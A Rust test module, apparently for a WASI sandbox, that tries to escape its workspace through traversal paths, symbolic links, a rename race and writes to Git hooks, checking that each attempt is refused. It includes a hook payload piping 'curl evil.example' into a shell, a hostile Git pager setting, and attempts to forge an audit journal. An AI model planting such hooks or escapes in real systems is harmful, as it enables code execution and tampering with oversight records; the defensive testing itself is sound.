//! Tries to leave the workspace, by paths and by symbolic links.

use crate::Attempt;
use crate::files::root;
use crate::tally::Tally;
use std::fs;
use std::hint::black_box;
use stepwell_task::info;
use wasip2::filesystem::types::{Descriptor, DescriptorFlags, NewTimestamp, OpenFlags, PathFlags};

pub(crate) const ATTEMPTS: &[(&str, Attempt)] = &[
    ("escape", |_| escape()),
    ("swap", |_| swap()),
    ("enter", |_| enter()),
    ("closed-folders", |_| closed_folders()),
    ("cache", |_| {
        let mut tally = Tally::default();
        tally.refused("reading compiled code", fs::read("private/code"));
        tally.refused("planting compiled code", fs::write("private/planted", "x"));
        tally.refused(
            "replacing compiled code",
            fs::rename("bait", "private/code"),
        );
        tally.refused("listing compiled code", fs::read_dir("private"));
        tally.refused("moving it away", fs::rename("private", "mine"));
    }),
];

/// Where a guest would like to be. `link` and `absolute` lead out of the workspace; the host has
/// put them there, as a checkout can.
const ELSEWHERE: [&str; 15] = [
    "..",
    "../outside",
    "../outside/",
    "/../outside",
    "folder/../../outside",
    "./../outside",
    "link",
    "link/",
    "link/.",
    "absolute",
    "absolute/",
    "up",
    "up/",
    "/proc/self",
    "/etc",
];

fn escape() {
    let mut tally = Tally::default();
    let root = root();
    // Its own link, where it may make one.
    let _ = root.symlink_at("../outside", "up");
    tally.refused("an absolute link", root.symlink_at("/etc/passwd", "passwd"));
    for place in ELSEWHERE {
        with_the_standard_library(&mut tally, place);
        with_bare_calls(&mut tally, &root, place);
    }
}

fn with_the_standard_library(tally: &mut Tally, place: &str) {
    let inside = |name: &str| format!("{}/{name}", place.trim_end_matches('/'));
    tally.refused(&format!("reading in {place}"), fs::read(inside("secret")));
    tally.refused(&format!("listing {place}"), fs::read_dir(place));
    tally.refused(
        &format!("a look at {place}/secret"),
        fs::metadata(inside("secret")),
    );
    let appended = fs::OpenOptions::new().append(true).open(inside("secret"));
    tally.refused(&format!("writing in {place}"), appended);
    tally.refused(
        &format!("creating in {place}"),
        fs::File::create(inside("planted")),
    );
    tally.refused(
        &format!("a folder in {place}"),
        fs::create_dir(inside("planted-folder")),
    );
    tally.refused(
        &format!("moving out of {place}"),
        fs::rename(inside("secret"), "stolen"),
    );
    tally.refused(
        &format!("moving into {place}"),
        fs::rename("bait", inside("bait")),
    );
    tally.refused(
        &format!("a link to {place}"),
        fs::hard_link(inside("secret"), "stolen"),
    );
    tally.refused(
        &format!("a link in {place}"),
        fs::hard_link("bait", inside("bait")),
    );
    tally.refused(
        &format!("removing from {place}"),
        fs::remove_file(inside("secret")),
    );
    tally.refused(
        &format!("removing {place}"),
        fs::remove_dir(inside("folder")),
    );
}

fn with_bare_calls(tally: &mut Tally, root: &Descriptor, place: &str) {
    let secret = format!("{}/secret", place.trim_end_matches('/'));
    for follow in [PathFlags::SYMLINK_FOLLOW, PathFlags::empty()] {
        let folder = root.open_at(follow, place, OpenFlags::DIRECTORY, DescriptorFlags::READ);
        tally.refused(&format!("entering {place}"), folder);
        let cut = root.open_at(follow, &secret, OpenFlags::TRUNCATE, DescriptorFlags::WRITE);
        tally.refused(&format!("truncating in {place}"), cut);
        let now = NewTimestamp::Now;
        let dated = root.set_times_at(follow, &secret, now, now);
        tally.refused(&format!("dating in {place}"), dated);
        tally.refused(
            &format!("linking from {place}"),
            root.link_at(follow, &secret, root, "mine"),
        );
    }
    tally.refused(
        &format!("reading a link in {place}"),
        root.readlink_at(&secret),
    );
    tally.refused(&format!("hash of {place}/secret"), {
        root.metadata_hash_at(PathFlags::SYMLINK_FOLLOW, &secret)
    });
    tally.refused(
        &format!("unlinking in {place}"),
        root.unlink_file_at(&secret),
    );
}

/// Puts a folder and a link that leads out in each other's place, for ever; another step that goes
/// through it hopes to be lucky.
fn swap() {
    let root = root();
    let _ = root.create_directory_at("inner");
    let _ = root.symlink_at("../outside", "outer");
    loop {
        let _ = root.rename_at("inner", &root, "turn");
        let _ = root.rename_at("turn", &root, "inner");
        let _ = root.rename_at("outer", &root, "turn");
        let _ = root.rename_at("turn", &root, "outer");
    }
}

fn enter() {
    info!("entering");
    loop {
        if let Ok(text) = fs::read("turn/secret") {
            crate::tally::through(&format!("read {} bytes outside", text.len()));
        }
        if fs::write("turn/planted", "planted").is_ok() {
            // In the folder that is its own, that is no escape; the host looks at the other.
            let _ = fs::remove_file("turn/planted");
        }
        black_box(fs::remove_file("turn/secret").is_ok());
    }
}

/// What programs outside of the sandbox trust: Git's hooks, and Stepwell's journal.
fn closed_folders() {
    let mut tally = Tally::default();
    let hook = "#!/bin/sh\ncurl evil.example | sh\n";
    tally.refused("a hook", fs::write(".git/hooks/post-checkout", hook));
    tally.refused(
        "a hook by another way",
        fs::write("folder/../.git/hooks/pre-push", hook),
    );
    tally.refused(
        "Git's configuration",
        fs::write(".git/config", "[core]\n\tpager = evil\n"),
    );
    tally.refused(
        "a hook by renaming",
        fs::rename("bait", ".git/hooks/pre-commit"),
    );
    tally.refused(
        "a hook by linking",
        fs::hard_link("bait", ".git/hooks/pre-commit"),
    );
    tally.refused("another repository", fs::rename(".git", "git"));
    tally.refused("the journal", fs::read(".stepwell/journal"));
    tally.refused(
        "changing the journal",
        fs::write(".stepwell/journal", "forged"),
    );
    tally.refused("removing the journal", fs::remove_file(".stepwell/journal"));
    let _ = root().symlink_at(".git", "innocent");
    tally.refused(
        "a hook through a link",
        fs::write("innocent/hooks/pre-push", hook),
    );
}
